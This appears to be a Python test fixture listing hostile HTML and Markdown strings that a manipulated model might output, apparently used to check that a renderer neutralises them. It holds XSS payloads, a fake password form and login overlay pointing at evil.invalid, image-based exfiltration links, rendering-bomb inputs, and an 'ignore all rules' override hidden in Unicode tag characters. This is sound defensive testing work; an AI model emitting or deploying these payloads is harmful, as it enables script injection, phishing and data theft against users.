"""What a model that was talked into harm might write: each text tries to run, fetch, hide, overlay or break out.

Anything that runs sets ``window.pwned``; anything that fetches asks for a host under ``evil.invalid``.
"""

from __future__ import annotations

PWN = "window.pwned=1"
EVIL = "https://evil.invalid"

MARKUP = {
    "script": f"<script>{PWN}</script>",
    "script in a list": f"- a\n- <script>{PWN}</script>\n- b",
    "module": f"<script type=module src={EVIL}/a.js></script>",
    "handler": f"<img src=x onerror={PWN}>",
    "unquoted handler": f"<svg/onload={PWN}>",
    "details": f"<details open ontoggle={PWN}><summary>x</summary></details>",
    "autofocus": f"<input autofocus onfocus={PWN}>",
    "animation": f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={PWN}>x</p>",
    "frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "frame by address": f"<iframe src='javascript:parent.pwned=1'></iframe><iframe src={EVIL}/f></iframe>",
    "object": f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    "base and meta": f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}/m'>",
    "link": f"<link rel=stylesheet href={EVIL}/s.css><link rel=prefetch href={EVIL}/p>",
    "style": f"<style>@import '{EVIL}/i.css'; body{{display:none}} .lsnb-panel{{background:url({EVIL}/b)}}</style>",
    "inline style": f"<p style='position:fixed;inset:0;z-index:99999;background:url({EVIL}/c)'>log in again</p>",
    "picture": f"<picture><source srcset={EVIL}/1.png><img srcset='{EVIL}/2.png 2x' src={EVIL}/3.png></picture>",
    "media": f"<video src={EVIL}/v poster={EVIL}/p autoplay></video><audio src={EVIL}/a autoplay></audio>",
    "svg": f"<svg><script>{PWN}</script><image href={EVIL}/i.svg /><use href='{EVIL}/u.svg#x'/></svg>",
    "svg animation": f"<svg><a><animate attributeName=href values=javascript:{PWN} /><text>x</text></a></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}></style></mglyph></table></mtext></math>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
    "template": f"<template><script>{PWN}</script></template>",
    "form": f"<form action={EVIL}/login><input name=password><button>Send</button></form>",
    "closing tags": "</div></div></article></section></main></body></html><h1>outside</h1>",
    "comment": f"<!-- --><img src=x onerror={PWN}> --!><!--",
    "cdata": f"<![CDATA[<img src=x onerror={PWN}>]]>",
    "open tag": f"<div title='<img src=x onerror={PWN}>",
    "entity": f"&lt;img src=x onerror={PWN}&gt; &#60;script&#62;{PWN}&#60;/script&#62;",
    "class names": '<div class="lsnb-panel lsnb-dialog" id="x" name="y" data-id="z">fake</div>',
}
MARKDOWN = {
    "image": f"![a cat]({EVIL}/cat.png)",
    "image by reference": f"![cat][c]\n\n[c]: {EVIL}/ref.png",
    "image in a link": f"[![x]({EVIL}/in.png)]({EVIL}/to)",
    "image in a table": f"| a |\n|---|\n| ![x]({EVIL}/t.png) |",
    "javascript link": f"[click](javascript:{PWN}) [click](JaVaScRiPt:{PWN}) [click](java\tscript:{PWN})",
    "data link": f"[click](data:text/html,<script>{PWN}</script>)",
    "autolink in a link": f"[a <{EVIL}/in> b]({EVIL}/to) [<a@b.invalid>]({EVIL}/to)",
    "autolink": f"<javascript:{PWN}> <{EVIL}/auto>",
    "link with a quote": f'[a](https://x.invalid/"onmouseover="{PWN}) [b](https://x.invalid "t" onclick={PWN})',
    "code that ends early": f"```html\n<img src=x onerror={PWN}>\n```\n```\n</code></pre><img src=x onerror={PWN}>",
    "open fence": f"~~~\n</pre><script>{PWN}</script>",
    "language": f'```"><img/src=x/onerror={PWN}>\nx\n```',
    "formula": f"$\\href{{javascript:{PWN}}}{{x}}$ $$\\unicode{{x}}\\require{{html}}\\style{{position:fixed}}{{x}}$$",
    "html in a formula": f"$<img src=x onerror={PWN}>$",
    "deep nesting": "> " * 300 + "x",
    "deep lists": "\n".join("  " * n + "- x" for n in range(200)),
    "deep emphasis": "*" * 2000 + "x" + "*" * 2000,
    "brackets": "[" * 3000,
    "bidi": "user\u202egpj.exe\u2066 \u2067nrut",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "controls": "a\x00b\x1b[2Jc\x07\x08d",
    "zalgo": "a" + "\u0301" * 500,
    "long word": "w" * 5000,
    "wide table": "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n|" + "b|" * 200,
    "many newlines": "x\n" * 500,
}
TEXTS = {**MARKUP, **MARKDOWN}
